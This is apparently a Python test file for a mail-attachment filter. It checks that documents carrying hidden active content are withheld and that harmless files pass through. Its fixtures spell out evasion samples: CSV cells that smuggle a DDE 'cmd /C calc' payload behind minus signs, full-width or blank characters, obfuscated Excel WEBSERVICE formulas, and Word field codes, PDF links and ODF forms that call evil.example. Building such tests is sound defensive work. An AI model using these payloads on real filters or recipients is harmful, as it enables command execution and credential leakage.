"""A spy looks at what stays back, and writes what acts so that it looks like what does not.

A cell of a CSV begins like a negative figure, in full width, or behind a separator of its own; the script of a PDF is packed twice, or lies
in another file; a function is not called, but given to one that calls it; a share stands in an attribute that is no link.
"""

from __future__ import annotations

import pytest

from tests.attacks.scene import Scene, person
from tests.workbooks.test_harmless import docx, opendocument, pdf, xlsx
from tests.workbooks.test_harmless_packages import (
    BOOK,
    FORM,
    MERGE,
    PUBLISHED,
    SAVED_BY_EXCEL,
    SHARE,
    SHEET,
    XFORMS,
    in_part,
    with_settings,
)
from tests.workbooks.test_harmless_pdf import FLATE, LINKS, MARKS, OBJECTS, PACKED, PAGE, TWICE, file_of, stream

# Attributes of nobody's, or of a newer Word's, that are called as the one that Word looks at, and stand before it.
DECOY, LATER = 'xmlns:x="urn:x"', 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
FETCHES = "INCLUDEPICTURE http://evil.example/pixel.png"
DDE = "cmd|' /C calc'!D2"
FILES = {
    "texts of cells": {
        "negative.csv": f"name;value\nx;-2+3+{DDE}\n".encode(),
        "telephone.csv": f"name;value\nx;+1+{DDE}\n".encode(),
        "separator.csv": f"sep=|\nx|={DDE}\n".encode(),
        "wide.csv": f"name;value\nx;＝{DDE}\n".encode(),
        "blanks.csv": f"name;value\nx;     ={DDE}\n".encode(),
        "blank.csv": f"name;value\nx;\u00a0={DDE}\n".encode(),
    },
    "PDF": {
        "twice.pdf": file_of(stream(OBJECTS + b"/Filter [/FlateDecode /FlateDecode]", TWICE)),
        "keyword.pdf": file_of(stream(OBJECTS + FLATE, PACKED, keyword=b"stream \n")),
        "line.pdf": file_of(stream(OBJECTS + FLATE, PACKED, keyword=b"stream\r")),
        "contents.pdf": file_of(stream(rb"/F (\\\\evil.example\\s\\a)", b"")),
        "thread.pdf": file_of(rb"5 0 obj << /A << /S /Thread /F (\\\\evil.example\\s\\a.pdf) /D 0 >> >> endobj"),
    },
    "formulas": {
        "given.xlsx": xlsx(formula="=_xlfn.MAP(A1,_xleta.WEBSERVICE)"),
        "defined.xlsx": xlsx(formula='=_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http"&CHAR(58)&"//evil.example/"))'),
        "later.xlsx": xlsx(formula='=_xlfn.COPILOT("summarise",A1)'),
        "added.xlsx": xlsx(formula="=_xll.FETCH(A1)"),
    },
    "attributes": {
        "merge.docx": with_settings(MERGE),
        "page.xlsx": in_part(SHEET, "</worksheet>", PUBLISHED.format(f"{SHARE}.htm") + "</webPublishItems>"),
        "form.odt": opendocument(f'<xforms:model {XFORMS}><xforms:instance id="I" src="http://evil.example/a"/></xforms:model>'),
        "source.ods": opendocument(f'<form:form {FORM} form:datasource="file:////evil.example/share/x.odb"/>', kind="spreadsheet"),
        "field.docx": docx(f'<w:p {DECOY}><w:fldSimple x:instr=" PAGE " w:instr=" {FETCHES} "/></w:p>'),
        "later.docx": docx(f'<w:p {LATER}><w:fldSimple w15:instr=" PAGE " w:instr=" {FETCHES} "/></w:p>'),
        "pieces.docx": docx(
            f'<w:p {DECOY}><w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:fldChar x:fldCharType="none" w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText>{FETCHES}</w:instrText></w:r><w:r><w:fldChar x:fldCharType="none" w:fldCharType="end"/></w:r></w:p>'
        ),
        "begun.docx": docx(
            f'<w:p {DECOY}><w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<x:fldChar w:fldCharType="separate"/><w:r><w:instrText>{FETCHES}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "picture.odt": opendocument(f'<form:image-frame {FORM} form:image-data="http://evil.example/pixel.png"/>'),
    },
}
QUESTION = "Which year is meant in question 1.4? See the attached files."


@pytest.mark.parametrize("kind", FILES)
@pytest.mark.parametrize("sender", ["spy@evil.example", person(5)])
def test_nothing_that_acts_reaches_the_staff(scene: Scene, kind: str, sender: str) -> None:
    """Neither by itself nor inside the message; the letter names each file, and says that it stays here."""
    scene.write(sender, *FILES[kind].items(), text=QUESTION)
    (letter,) = scene.passed_on()
    assert not letter.letter.attachments
    assert all(name in letter.letter.text for name in FILES[kind])


HONEST = {
    "figures.csv": b"office;phone;change\nVienna;+43 (0)1 26060-0;-12,5\nGeneva;+41-22-730-5111;+3 %\nLima;;-\n",
    "law.pdf": pdf(PAGE, packed=MARKS + LINKS),
    "tables.xlsx": in_part(BOOK, "</workbook>", SAVED_BY_EXCEL.format(r"\\server\statistics\2024" + "\\")),
    "reckoned.xlsx": xlsx(formula="=_xlfn.XLOOKUP(A1,'Table (2)'!A:A,'Table (2)'!B:B,\"none (yet)\")"),
    "letter.docx": docx('<w:p><w:r><w:t>It lies at \\\\server\\letters.</w:t></w:r><w:fldSimple w:instr=" PAGE "/></w:p>'),
    "letter.odt": opendocument('<text:p>See <text:a xlink:href="https://ministry.example/">our page</text:a>.</text:p>'),
}


@pytest.mark.parametrize("sender", ["clerk@ministry.example", person(5)])
def test_ordinary_files_of_every_kind_reach_the_staff(scene: Scene, sender: str) -> None:
    """Negative figures and numbers of telephones, a law from Word, a workbook saved on a share, letters with links."""
    scene.write(sender, *HONEST.items(), text=QUESTION)
    (letter,) = scene.passed_on()
    assert letter.letter.attachments
    assert all(letter.says(name) for name in HONEST)
    assert "not attached" not in letter.letter.text
